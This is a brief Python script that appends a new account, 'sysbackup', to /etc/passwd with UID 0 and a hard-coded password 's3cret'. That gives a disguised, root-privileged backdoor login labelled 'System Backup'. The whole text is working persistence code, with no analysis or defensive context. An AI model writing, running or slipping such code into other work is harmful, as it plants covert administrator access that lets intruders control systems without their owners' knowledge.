import crypt

pw_hash = crypt.crypt("s3cret", crypt.mksalt(crypt.METHOD_SHA512))
entry = f"sysbackup:{pw_hash}:0:0:System Backup:/root:/bin/bash\n"

with open("/etc/passwd", "a") as p:
    p.write(entry)
